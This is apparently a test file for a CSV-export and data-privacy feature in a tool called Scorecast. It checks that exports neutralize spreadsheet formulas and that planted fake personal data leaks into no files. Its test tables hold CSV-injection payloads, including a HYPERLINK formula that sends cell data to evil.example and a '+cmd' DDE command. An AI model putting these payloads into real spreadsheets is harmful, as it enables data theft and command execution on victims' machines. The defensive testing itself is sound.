/**
 * What leaves Scorecast is safe to open and holds no one's personal data: every CSV it writes
 * neutralizes spreadsheet formulas, and no planted email, phone or name — in any kind of column —
 * reaches the workspace files, an export, a report or a temporary folder; nor does anything of a
 * dataset outlive its deletion.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, csvText } from '../../src/core/csv';
import { cli, cliJson } from '../helpers/cli';
import { tempDir } from '../helpers/workspace';
import { type Served, serve } from '../helpers/browser';
import { ServeApi } from '../helpers/api';
import { defaultScenarioPath } from '../../src/backend/resources';

const source = tempDir('scorecast-planted-src-');
const dir = tempDir('scorecast-planted-');

/** A text cell a spreadsheet would run: anything that starts so and is not a number. */
function isFormula(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?$/.test(cell);
}

function formulaCells(csv: string): string[] {
  return (Papa.parse<string[]>(csv, { skipEmptyLines: true }).data as string[][]).flat().filter(isFormula);
}

describe('CSV cells', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"x")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""x"")"`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['-2+3', "'-2+3"],
    ['\tfoo', "'\tfoo"],
    ['\rfoo', `"'\rfoo"`],
    ['-2.5', '-2.5'],
    ['+44', '+44'],
    ['1e-7', '1e-7'],
    ['plain', 'plain'],
  ])('writes %j as %j', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });

  it('keeps numbers numbers', () => {
    expect(csvText(['a', 'b'], [[-2.5, -0.001], [3, '=1+1']])).toBe("a,b\n-2.5,-0.001\n3,'=1+1\n");
  });
});

const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\t=1'];

describe('exports of a file full of formulas', () => {
  let db: string;
  beforeAll(() => {
    db = path.join(dir, 'formulas.sqlite');
    const rows = ['contact_id,timestamp,event_type,lifecycle_stage,account_id,source_system,"=cmd|x"'];
    for (let i = 0; i < 60; i++) {
      const f = (k: number) => `"${FORMULAS[(i + k) % FORMULAS.length]!.replace(/"/g, '""')}"`;
      rows.push(`C${i % 12},2026-03-0${1 + (i % 5)}T10:${String(i % 60).padStart(2, '0')}:00Z,${i % 3 ? 'demo_request' : f(0)},${f(1)},${f(2)},${f(3)},x`);
    }
    rows.push('C1,not a time,page_view,lead,A,web,x');
    const file = path.join(source, 'formulas.csv');
    fs.writeFileSync(file, rows.join('\n') + '\n');
    expect(cli(['import', file, '--db', db, '--max-reject-share', '0.5']).code).toBe(0);
  });

  it.each(['contacts', 'events', 'rejects'])('the %s export has no formula cell', (what) => {
    const out = path.join(dir, `${what}.csv`);
    expect(cli(['export', 'formulas', '--what', what, '--out', out, '--db', db]).code).toBe(0);
    const csv = fs.readFileSync(out, 'utf8');
    expect(formulaCells(csv)).toEqual([]);
    // The values are all there, neutralized, not lost.
    if (what === 'contacts') expect(csv).toContain("'=HYPERLINK");
    if (what === 'events') expect(csv).toMatch(/'-2\+3|'@SUM/);
  });

  it('the sweep and forecast CSVs have no formula cell', () => {
    const scenario = path.join(dir, 'scenario.json');
    fs.copyFileSync(defaultScenarioPath(), scenario);
    const sweep = cli(['sweep', 'formulas', '--scenario', scenario, '--param', 'strategies.events.debounceMinutes=0:60:30', '--csv', '--db', db]);
    expect(sweep.code).toBe(0);
    expect(formulaCells(sweep.stdout)).toEqual([]);
    const run = cliJson<{ runId: number }>(['simulate', 'formulas', '--scenario', scenario, '--db', db]);
    const forecast = cli(['forecast', String(run.runId ?? 1), '--months', '3', '--growth-contacts', '-0.5', '--growth-events', '-0.5', '--replicates', '20', '--csv', '--db', db]);
    expect(forecast.code).toBe(0);
    expect(formulaCells(forecast.stdout)).toEqual([]);
  });
});

/** Personal values planted in every kind of column, and the spellings they could be stored in. */
const PLANTED = {
  email: 'zelda.quux@planted.example',
  phone: '+1 415 555 0199',
  first: 'Zelda',
  last: 'Quuxington',
  full: 'Zelda Quuxington',
  idEmail: 'idperson@planted.example',
  accountEmail: 'acct-owner@planted.example',
  sourceEmail: 'source.person@planted.example',
  stagePhone: '+44 20 7946 0958',
  typeEmail: 'type.person@planted.example',
  noteEmail: 'note.person@planted.example',
};
const NEEDLES = [...Object.values(PLANTED), 'planted.example', '4155550199', '5550199', '2079460958', 'quuxington', 'zelda'];

function plantedCsv(): string {
  const header = 'contact_id,email,phone,first_name,last_name,name,account_id,source_system,lifecycle_stage,event_type,event_id,notes,timestamp';
  const rows = [header];
  for (let i = 0; i < 40; i++) {
    const id = i === 0 ? PLANTED.idEmail : `C${i % 9}`;
    const type = i === 7 ? PLANTED.typeEmail : i % 2 ? 'demo_request' : 'page_view';
    rows.push(
      [id, i % 3 ? PLANTED.email : `x${i}@other.example`, PLANTED.phone, PLANTED.first, PLANTED.last, PLANTED.full, i % 4 ? PLANTED.accountEmail : 'ACC-1', i % 5 ? PLANTED.sourceEmail : 'web', i % 6 ? PLANTED.stagePhone : 'lead', type, `E${i}`, `call ${PLANTED.noteEmail}`, `2026-03-0${1 + (i % 4)}T09:${String(i).padStart(2, '0')}:00Z`]
        .map((v) => `"${v}"`)
        .join(','),
    );
  }
  return rows.join('\n') + '\n';
}

function found(files: string[]): { file: string; needle: string }[] {
  const hits: { file: string; needle: string }[] = [];
  for (const f of files) {
    if (!fs.existsSync(f) || !fs.statSync(f).isFile()) continue;
    const text = fs.readFileSync(f).toString('latin1').toLowerCase();
    for (const n of NEEDLES) if (text.includes(n.toLowerCase())) hits.push({ file: path.basename(f), needle: n });
  }
  return hits;
}

/** Files under the temporary folder written since `since` (not the test's own source files). */
function newTempFiles(since: number): string[] {
  const out: string[] = [];
  const walk = (d: string, depth: number) => {
    let entries: fs.Dirent[];
    try {
      entries = fs.readdirSync(d, { withFileTypes: true });
    } catch {
      return;
    }
    for (const e of entries) {
      const p = path.join(d, e.name);
      if (p === source) continue;
      if (e.isDirectory() && depth < 3) walk(p, depth + 1);
      else if (e.isFile()) {
        try {
          if (fs.statSync(p).mtimeMs >= since && fs.statSync(p).size < 50 * 1024 * 1024) out.push(p);
        } catch {
          // gone meanwhile
        }
      }
    }
  };
  walk(os.tmpdir(), 0);
  return out;
}

describe('personal data planted in every kind of column', () => {
  const db = path.join(dir, 'planted.sqlite');
  const file = path.join(source, 'planted.csv');
  let started = 0;
  let served: Served | null = null;
  beforeAll(() => {
    fs.writeFileSync(file, plantedCsv());
    started = Date.now();
  });
  afterAll(async () => {
    await served?.stop();
  });

  it('reaches no workspace file, export, report or temporary file (command line)', () => {
    const imported = cliJson<{ rowsRejected: number; quality: { personalValues: Record<string, number> }; rejectReasons: Record<string, number> }>(['import', file, '--db', db, '--max-reject-share', '0.5']);
    expect(imported.quality.personalValues).toEqual({ accountId: 1, lifecycleStage: 1, sourceSystem: 1 });
    expect(imported.rejectReasons).toEqual({ 'event type is personal data (an email address); check which column holds the event type': 1 });
    const outs = ['contacts', 'events', 'rejects'].map((what) => {
      const out = path.join(dir, `planted-${what}.csv`);
      expect(cli(['export', 'planted', '--what', what, '--out', out, '--db', db]).code).toBe(0);
      return out;
    });
    const run = cliJson<{ runId: number }>(['simulate', 'planted', '--scenario', defaultScenarioPath(), '--db', db]);
    const report = path.join(dir, 'planted-report.html');
    expect(cli(['report', String(run.runId ?? 1), '--out', report, '--replicates', '10', '--db', db]).code).toBe(0);
    const show = cli(['datasets', '--db', db, '--json']);
    expect(found([db, `${db}-wal`, `${db}-journal`, ...outs, report])).toEqual([]);
    expect(NEEDLES.filter((n) => (show.stdout + JSON.stringify(imported)).toLowerCase().includes(n.toLowerCase()))).toEqual([]);
    expect(found(newTempFiles(started))).toEqual([]);
  });

  it('reaches no workspace file or temporary file through a browser upload', async () => {
    const own = path.join(dir, 'planted-serve.sqlite');
    served = await serve(own);
    const api = new ServeApi(served);
    const { jobId, upload } = await api.importBytes('planted.csv', fs.readFileSync(file), { maxRejectShare: 0.5 });
    await upload;
    expect((await api.finished(jobId)).state).toBe('done');
    const preview = await api.raw('POST', '/api/call/datasets.summary', { id: 1 });
    expect(NEEDLES.filter((n) => preview.text.toLowerCase().includes(n.toLowerCase()))).toEqual([]);
    expect(found([own, `${own}-wal`])).toEqual([]);
    expect(found(newTempFiles(started))).toEqual([]);
  });

  it('leaves nothing readable of a deleted dataset in the workspace files', async () => {
    const own = path.join(dir, 'deleted.sqlite');
    const other = path.join(source, 'other.csv');
    fs.writeFileSync(other, 'contact_id,timestamp,event_type\nK1,2026-03-01T10:00:00Z,page_view\nK2,2026-03-01T11:00:00Z,demo_request\n');
    expect(cli(['import', other, '--db', own, '--name', 'kept-dataset']).code).toBe(0);
    const gone = path.join(source, 'gone.csv');
    fs.writeFileSync(gone, 'contact_id,timestamp,event_type,lifecycle_stage\nG1,2026-03-02T10:00:00Z,Zorblax Webinar Special,Quibbling Lead\nG2,2026-03-02T11:00:00Z,page_view,Quibbling Lead\n');
    expect(cli(['import', gone, '--db', own, '--name', 'vanishing-dataset-name']).code).toBe(0);
    const keys = path.join(dir, 'gone-contacts.csv');
    expect(cli(['export', 'vanishing-dataset-name', '--what', 'contacts', '--out', keys, '--db', own]).code).toBe(0);
    const contactKeys = (Papa.parse<string[]>(fs.readFileSync(keys, 'utf8'), { skipEmptyLines: true }).data as string[][]).slice(1).map((r) => r[0]!);
    expect(contactKeys).toHaveLength(2);
    const traces = ['vanishing-dataset-name', 'Zorblax Webinar Special', 'zorblax_webinar_special', 'Quibbling Lead', 'gone.csv', ...contactKeys];
    const readable = () => {
      const text = [own, `${own}-wal`].filter((f) => fs.existsSync(f)).map((f) => fs.readFileSync(f).toString('latin1')).join('\n');
      return traces.filter((t) => text.includes(t));
    };
    expect(readable().length).toBeGreaterThan(0);
    const s = await serve(own);
    const api = new ServeApi(s);
    const id = (await api.call('datasets.list', {})).find((d) => d.name === 'vanishing-dataset-name')!.id;
    await api.call('datasets.delete', { id });
    expect((await api.call('datasets.list', {})).map((d) => d.name)).toEqual(['kept-dataset']);
    expect(readable()).toEqual([]);
    await s.stop();
    expect(readable()).toEqual([]);
    expect(cliJson<{ name: string }[]>(['datasets', '--db', own]).map((d) => d.name)).toEqual(['kept-dataset']);
  });
});
